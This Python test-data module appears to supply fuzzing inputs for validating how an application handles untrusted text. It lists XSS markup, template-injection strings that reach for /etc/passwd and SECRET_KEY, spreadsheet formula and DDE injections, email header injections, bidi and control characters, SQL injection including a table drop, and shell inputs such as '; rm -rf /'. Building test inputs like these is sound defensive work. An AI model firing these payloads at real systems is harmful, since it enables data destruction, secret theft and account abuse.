"""Some hundreds of texts that nobody should send, by what they try."""

from collections.abc import Iterator

MARK = "zq7"
"""Stands in every text that would do something if it were taken for more than a text."""

MARKUP = [
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"\"><script>alert('{MARK}')</script>",
    f"'><script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"</style><script>alert('{MARK}')</script>",
    f"--><script>alert('{MARK}')</script>",
    f"<!--{MARK}--><b>{MARK}</b>",
    f"<a href=javascript:alert('{MARK}')>{MARK}</a>",
    f"<a href='data:text/html,<b>{MARK}'>x</a>",
    f"<iframe src=//{MARK}.example></iframe>",
    f"<object data=//{MARK}.example></object>",
    f"<embed src=//{MARK}.example>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<meta http-equiv=refresh content='0;//{MARK}.example'>",
    f"<base href=//{MARK}.example>",
    f"<form action=//{MARK}.example><input name=x>",
    f"<style>*{{background:url(//{MARK}.example)}}</style>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<math><mtext><script>alert('{MARK}')</script>",
    f"<ScRiPt>alert('{MARK}')</sCrIpT>",
    f"<scr<script>ipt>alert('{MARK}')</script>",
    f"<script\x00>alert('{MARK}')</script>",
    f"<img src=`x`onerror=alert('{MARK}')>",
    f"\" autofocus onfocus=\"alert('{MARK}')",
    f"' onmouseover='alert(\"{MARK}\")",
    f"javascript:alert('{MARK}')",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"&#60;script&#62;alert('{MARK}')",
    f"%3Cscript%3Ealert('{MARK}')%3C/script%3E",
    f"＜script＞alert('{MARK}')＜/script＞",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/{MARK}'>]>&y;",
    f"<x-{MARK}>",
    f"<template><b>{MARK}</b></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
]
TEMPLATES = [
    f"{{{{ 7|add:7 }}}}{MARK}",
    f"{{% debug %}}{MARK}",
    f"{{% include '/etc/passwd' %}}{MARK}",
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f"{{{{ request.user.email }}}}{MARK}",
    f"${{7*7}}{MARK}",
    f"#{{7*7}}{MARK}",
    f"<%= 7*7 %>{MARK}",
    f"{{{{constructor.constructor('alert(1)')()}}}}{MARK}",
    f"%(name)s{MARK}",
    f"%(nothing)s {MARK}",
    f"%s%s%s%n{MARK}",
    f"100 % {MARK}",
    f"{{0}}{{name}}{MARK}",
    f"{{{MARK}.__class__.__mro__}}",
]
FORMULAS = [
    begin + rest
    for begin in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", '"=', "'=")
    for rest in (
        f"1+1{MARK}",
        f'HYPERLINK("//{MARK}.example","x")',
        f"cmd|' /C calc'!{MARK}",
    )
] + [f'=IMPORTXML(CONCAT("//{MARK}.example/",A1),"//a")', f"@SUM(1,2){MARK}", f"%0a={MARK}"]
HEADERS = [
    begin + rest
    for begin in ("\r\n", "\n", "\r", "\u2028", "\x85", "%0d%0a", "\\r\\n", "\x0b", "\x0c")
    for rest in (
        f"Bcc: {MARK}@victim.example",
        f"Subject: {MARK}",
        f"\r\n\r\n<b>{MARK}</b>",
        f"Content-Type: text/html; {MARK}",
    )
] + [
    f"=?utf-8?q?{MARK}=0D=0ABcc:_x@victim.example?=",
    f"x@victim.example,{MARK}@victim.example",
    f"{MARK}@victim.example\nBcc: y@victim.example",
    f'"{MARK}\r\nBcc: x"@victim.example',
    f"<{MARK}@victim.example>",
    f"{MARK}@[127.0.0.1]",
    f"{MARK}@victim.example\x00",
]
CONTROLS = [f"Ann{chr(code)}Lee" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0, 3))] + [
    f"Ann{character}Lee"
    for character in "\u2028\u2029\ufeff\ufffe\uffff\ufff9\ufffc\U000e0001\U000e0041\u00ad\u034f"
]
DIRECTIONS = [
    f"Ann{character}{MARK}gnp.exe"
    for character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
] + ["\u202e" * 40 + MARK, f"\u2067\u2067\u2067{MARK}", "\u2069\u2069\u2069" + MARK]
INVISIBLE = ["\u200b", "\u200b\u200c\u200d\u2060", "\u3164", "\u2800", "\u00a0", " ", "\t", "\n"]
SCRIPTS = [
    "محمد عبد الله", "فاطمة الزهراء", "شبكة المهاجرين في المغرب العربي", "علي", "أحمد، سعاد؛ «ليلى»",
    "中国移民工人协会", "李", "歐陽修", "Алёна Щербакова", "Їжак", "Ελένη Παπαδοπούλου", "שלום עליכם",
    "अंतर्राष्ट्रीय प्रवासी", "தமிழ் அகதிகள்", "বাংলাদেশ অভিবাসী", "ਪੰਜਾਬੀ", "ગુજરાતી", "తెలుగు", "ಕನ್ನಡ",
    "മലയാളം", "සිංහල", "ไทยแลนด์", "ລາວ", "မြန်မာ", "ខ្មែរ", "አማርኛ", "ትግርኛ", "ქართული", "Հայերեն",
    "日本語テスト", "ひらがな", "한국어 이름", "ᠮᠣᠩᠭᠣᠯ", "བོད་ཡིག", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "ߒߞߏ", "ދިވެހި", "کوردی", "اردو نام",
    "Nguyễn Thị Ánh", "Þórður Ægisson", "Łukasz Żółć", "İstanbul ıİ", "ß ẞ ﬁ ﬀ", "O’Brien-D'Angelo",
    "Zoë\u0301\u0302\u0303\u0304\u0305", "Z" + "\u0337\u0322\u0321\u0328" * 60, "👩‍👩‍👧‍👦", "🇵🇸🏳️‍🌈", "\U0001f469\U0001f3ff",
    "𝔉𝔯𝔞𝔨𝔱𝔲𝔯", "𓀀𓂀", "𐍈", "٠١٢٣٤٥٦٧٨٩", "①②③", "ⅣⅤ", "½", "ﷺ", "ﷲ" * 20,
]  # fmt: skip
LONG = [
    letter * number
    for letter in ("a", "م", "中", "👩‍👧", "a ", "<")
    for number in (256, 2_001, 20_000)
]
COMMANDS = [
    f"'; drop table accounts_user; --{MARK}", f"' or '1'='1{MARK}", f"1; select pg_sleep(9) --{MARK}",
    f"\\'; {MARK}", f"%' and {MARK} like '%", "%", "_", "\\", f"$({MARK})", f"`{MARK}`", f"; rm -rf /{MARK}",
    f"| {MARK}", f"../../../../etc/{MARK}", f"..\\..\\{MARK}", f"file:///etc/{MARK}", f"http://127.0.0.1/{MARK}",
    f"//{MARK}.example", f"https:/{MARK}", f"http://a:b@{MARK}.example/", f"\\\\{MARK}\\share", "CON", "nul.txt",
    '{"$gt": ""}', f'{{"__proto__": "{MARK}"}}', "[]", "null", "undefined", "NaN", "Infinity", "-0", "1e999",
    "999999999999999999999999", "0x10", "true", "None", "00000000-0000-0000-0000-000000000000", "not-a-uuid",
    "2026-02-30", "0000-00-00", "9999-12-31T23:59:60Z", "31/12/99999", "24:00", "1.1.1", "(*)*" * 30, "((((" * 500,
    "a" * 60 + "!", f"{MARK} and {MARK} or not (", "*?[", "&amp;&", "?next=//evil.example", "#fragment", f"{MARK}\\u003cb\\u003e",
]  # fmt: skip

KINDS = {
    "markup": MARKUP,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "headers": HEADERS,
    "controls": CONTROLS,
    "directions": DIRECTIONS,
    "invisible": INVISIBLE,
    "scripts": SCRIPTS,
    "long": LONG,
    "commands": COMMANDS,
}


def every() -> list[str]:
    return [text for texts in KINDS.values() for text in texts]


def some(of_each: int, *, turn: int = 0) -> Iterator[str]:
    """Of each kind a few, other ones at another turn."""
    for texts in KINDS.values():
        for number in range(of_each):
            yield texts[(turn * of_each + number) % len(texts)]
